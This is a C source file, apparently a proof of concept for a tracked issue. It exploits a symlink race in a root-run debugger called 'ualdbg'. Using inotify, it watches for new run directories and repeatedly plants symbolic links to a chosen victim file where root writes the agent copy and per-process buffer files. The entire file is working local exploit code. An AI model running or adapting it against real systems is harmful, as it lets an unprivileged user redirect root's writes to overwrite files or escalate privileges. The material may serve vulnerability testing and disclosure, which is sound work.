/* Another local user at work while root traces its process (issue 29, 2): watches the folders
   where ualdbg makes its run directories and, as soon as one appears, tries again and again to
   plant a symbolic link to VICTIM where root would write or read: the agent's copy, and the
   buffer names of process PID. Prints one line per link planted; ends after MS milliseconds.

   usage: planter VICTIM PID MS DIR... */
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/* Spin on symlink(2) for up to 300 ms: a directory root made 0700 opens to us only when it is
   handed over (chown), microseconds before root writes into it. */
static void plant(const char *victim, const char *dir, const char *pid)
{
    char names[3][PATH_MAX + 64];
    snprintf(names[0], sizeof names[0], "%s/ualdbg_agent.so", dir);
    snprintf(names[1], sizeof names[1], "%s/%s.0.buf", dir, pid);
    snprintf(names[2], sizeof names[2], "%s/buffers/%s.0.buf", dir, pid);
    int done[3] = {0};
    double end = now_ms() + 300;
    while (now_ms() < end) {
        int left = 0;
        for (int i = 0; i < 3; i++) {
            if (done[i])
                continue;
            if (symlink(victim, names[i]) == 0) {
                done[i] = 1;
                printf("planted %s\n", names[i]);
                fflush(stdout);
            } else if (errno == EEXIST) {
                done[i] = 1;
            } else {
                left++;
            }
        }
        if (!left || access(dir, F_OK) != 0)
            break;
    }
}

int main(int argc, char **argv)
{
    if (argc < 5)
        return 2;
    const char *victim = argv[1], *pid = argv[2];
    double end = now_ms() + atof(argv[3]);
    int fd = inotify_init1(IN_NONBLOCK);
    char *dirs[16];
    int wd[16], n = 0;
    for (int i = 4; i < argc && n < 16; i++) {
        dirs[n] = argv[i];
        wd[n++] = inotify_add_watch(fd, argv[i], IN_CREATE | IN_MOVED_TO | IN_ONLYDIR);
    }
    printf("watching\n");
    fflush(stdout);
    char buf[65536] __attribute__((aligned(8)));
    while (now_ms() < end) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 50) <= 0)
            continue;
        ssize_t len = read(fd, buf, sizeof buf);
        for (char *q = buf; len > 0 && q < buf + len;) {
            struct inotify_event *e = (struct inotify_event *)q;
            q += sizeof *e + e->len;
            if (!e->len || strncmp(e->name, "ualdbg-", 7) != 0)
                continue;
            for (int i = 0; i < n; i++)
                if (wd[i] == e->wd) {
                    char dir[PATH_MAX];
                    snprintf(dir, sizeof dir, "%s/%s", dirs[i], e->name);
                    plant(victim, dir, pid);
                }
        }
    }
    return 0;
}
